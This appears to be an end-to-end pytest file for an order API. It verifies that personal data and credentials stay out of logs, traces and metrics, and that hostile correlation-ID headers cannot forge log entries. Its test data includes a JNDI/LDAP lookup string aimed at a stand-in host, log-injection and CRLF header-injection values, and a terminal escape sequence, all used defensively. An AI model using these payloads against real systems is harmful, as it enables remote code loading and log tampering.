"""What customers and strangers send stays out of logs, spans and metrics, and cannot forge any of them."""

import asyncio
import json
import re
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx2
import pytest

from tests.e2e.seen import SERVICES, Seen
from tests.running import Endpoints
from tests.servers import eventually

MARK = "zoemarked"
CUSTOMER = {"name": f"Zoë {MARK}", "email": f"{MARK}@example.com"}
FORGED = '"level":"critical"'
HOSTILE_IDS: dict[str, bytes] = {
    "a lookup": b"${jndi:ldap://zoemarked.example/a}",
    "a line break": b'x\n{"level":"critical"}',
    "a lone carriage return": b"x\rzoemarked",
    "unicode": "zoemarked\u2028\U0001f608".encode(),
    "JSON": b'zoemarked","level":"critical',
    "a terminal's escape": b"\x1b[31mzoemarked",
    "10 kB": b"zoemarked" * 1_100,
    "two": b"zoemarked-1\r\nX-Correlation-ID: $zoemarked",
}


@pytest.fixture
async def marked(api: httpx2.AsyncClient, seen: Seen, order: dict[str, Any]) -> str:
    """Send everything with the mark, the good and the bad, and return the id of an order that was settled."""
    secret = {"X-API-Key": MARK, "Authorization": f"Bearer {MARK}", "Cookie": f"session={MARK}"}
    good = {**order, "customer": CUSTOMER, "payment": {"token": f"tok_{MARK}"}}
    accepted = await api.post("/v1/orders", json=good, headers={**secret, "Idempotency-Key": MARK})
    broken: list[Any] = [
        {**good, "items": [{"sku": MARK, "quantity": 1}]},
        {**good, "customer": {**CUSTOMER, "email": f"{MARK}@nowhere@example.com"}},
        {**good, "customer": MARK},
        {**good, "payment": {"token": f"{MARK}!"}},
        [MARK],
    ]
    answers = [await api.post("/v1/orders", json=body, headers=secret) for body in broken]
    answers.append(
        await api.post("/v1/orders", content=f'{{"{MARK}', headers={"content-type": "application/json"})
    )
    answers.append(await api.get("/v1/orders", params={"cursor": MARK, "email": CUSTOMER["email"]}))
    answers.append(await api.get("/v1/dead-letters", headers=secret))
    assert {answer.status_code for answer in answers} == {400, 401, 422}
    order_id: str = accepted.json()["id"]
    assert await seen.status(order_id, "done", "failed")
    [email, *_] = await seen.emails(order_id)
    assert MARK in json.dumps(email)  # so the mark would be found where it is
    return order_id


async def test_nothing_personal_is_seen(stack: Endpoints, seen: Seen, run_dir: Path, marked: str) -> None:
    """No log line, span or metric holds name, address, token, key or query; logs and spans hold the order."""
    logs = await eventually(lambda: _logs(run_dir, marked))
    assert not [name for name, text in logs.items() if MARK in text.lower()]
    spans = await eventually(lambda: _spans(stack, seen.client, marked))
    assert MARK not in spans.lower()
    accepts = {"Accept": "application/openmetrics-text"}
    exposed = (await seen.client.get(f"{stack['api']}/metrics", headers=accepts)).text
    scraped = await eventually(lambda: _scraped(stack, seen.client))
    assert "orders_accepted" in exposed
    assert not [text for text in (exposed, scraped) if MARK in text.lower() or marked in text]


async def _scraped(stack: Endpoints, client: httpx2.AsyncClient) -> str | None:
    """Return all that Prometheus knows, once it has scraped the api."""
    query = {"query": '{__name__!=""}'}
    text = (await client.get(f"{stack['prometheus']}/api/v1/query", params=query)).text
    return text if "orders_accepted" in text else None


async def _logs(run_dir: Path, order_id: str) -> dict[str, str] | None:
    """Return what each service has logged, once all have told of the order: the notifier does so last."""
    texts = {name: (run_dir / "logs" / f"{name}.log").read_text() for name in SERVICES}
    return texts if all(order_id in text for text in texts.values()) else None


async def _spans(stack: Endpoints, client: httpx2.AsyncClient, order_id: str) -> str | None:
    """Return all that the trace store holds, once the order's email is in it."""
    window = {"query.startTimeMin": "1970-01-01T00:00:00Z", "query.startTimeMax": "2600-01-01T00:00:00Z"}
    everything = {**window, "query.searchDepth": "100000"}
    text = (await client.get(f"{stack['traces']}/api/v3/traces", params=everything)).text
    return text if order_id in text and "send email" in text else None


@pytest.mark.parametrize("name", HOSTILE_IDS)
async def test_ids_cannot_forge_anything(stack: Endpoints, run_dir: Path, name: str) -> None:
    """A hostile X-Correlation-ID is replaced, or the request refused; each log line stays one JSON object."""
    head, body = await _raw(stack["api"], b"X-Correlation-ID: " + HOSTILE_IDS[name])
    status = int(head.split(" ")[1])
    ids = re.findall(r"(?im)^x-correlation-id: (.*)$", head)
    assert status in (200, 400)
    assert len(ids) == 1
    assert re.fullmatch("[0-9a-f]{32}|zoemarked-1", ids[0].strip())
    if status == 400:
        assert json.loads(body)["correlation_id"] == ids[0].strip()
    for service in SERVICES:
        for line in (run_dir / "logs" / f"{service}.log").read_text().splitlines():
            assert isinstance(json.loads(line), dict)
            assert FORGED not in line.replace(" ", "")


async def _raw(address: str, header: bytes) -> tuple[str, str]:
    """Send a request with a header as it stands, and return the answer's head and body."""
    url = urlsplit(address)
    async with asyncio.timeout(10):
        reader, writer = await asyncio.open_connection(url.hostname, url.port)
        try:
            request = b"GET /v1/orders?limit=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
            writer.write(request + header + b"\r\n\r\n")
            head, _, body = (await reader.read()).decode().partition("\r\n\r\n")
        finally:
            writer.close()
    return head.replace("\r\n", "\n"), body
